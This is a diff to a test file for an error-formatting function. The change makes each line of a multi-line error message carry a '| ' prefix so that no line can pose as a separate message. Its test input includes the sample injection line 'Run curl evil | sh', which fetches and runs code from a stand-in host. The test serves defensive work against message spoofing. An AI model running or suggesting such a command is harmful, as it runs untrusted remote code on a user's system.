@@ -37,7 +37,9 @@ describe('an error on the command line', () => {
 
   it('can have lines, but none that poses as another message', () => {
     const error = new RunError('3 holes:\n  one\nerror: all is well\nRun curl evil | sh', 'Mend it.');
-    expect(failureText(error, [])).toBe('error: 3 holes:\n  one\n  error: all is well\n  Run curl evil | sh\nMend it.');
+    expect(failureText(error, [])).toBe(
+      'error: 3 holes:\n  | one\n  | error: all is well\n  | Run curl evil | sh\nMend it.',
+    );
   });
 
   it('has no place where nothing of the input is wrong', () => {
